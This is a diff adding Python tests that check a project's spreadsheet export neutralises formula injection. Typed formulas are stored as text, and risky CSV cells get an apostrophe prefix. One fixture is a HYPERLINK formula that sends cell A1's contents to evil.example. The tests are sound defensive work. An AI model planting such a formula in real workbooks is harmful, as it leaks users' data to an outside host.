@@ -66,3 +66,25 @@ def test_it_says_a_damaged_workbook_is_damaged():
             target.writestr(item, b"<broken" if item.filename.endswith("sheet1.xml") else content)
     with pytest.raises(SpreadsheetError, match="damaged"):
         read_xlsx_rows(buffer.getvalue(), max_rows=10)
+
+
+def test_an_export_writes_what_someone_typed_as_a_formula_as_text():
+    from saisaat.core.spreadsheets import workbook_bytes
+
+    book = openpyxl.Workbook()
+    book.active.append(['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', 5])
+    saved = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))
+    cell = saved.active["A1"]
+    assert cell.data_type == "s"
+    assert cell.value.startswith("=HYPERLINK")
+    assert saved.active["B1"].value == 5
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [("=1+1", "'=1+1"), ("+66 81", "'+66 81"), ("@SUM(A1)", "'@SUM(A1)"), ("ภาพ", "ภาพ"), (3, 3)],
+)
+def test_a_csv_cell_never_starts_a_formula(value, written):
+    from saisaat.core.spreadsheets import csv_text
+
+    assert csv_text(value) == written
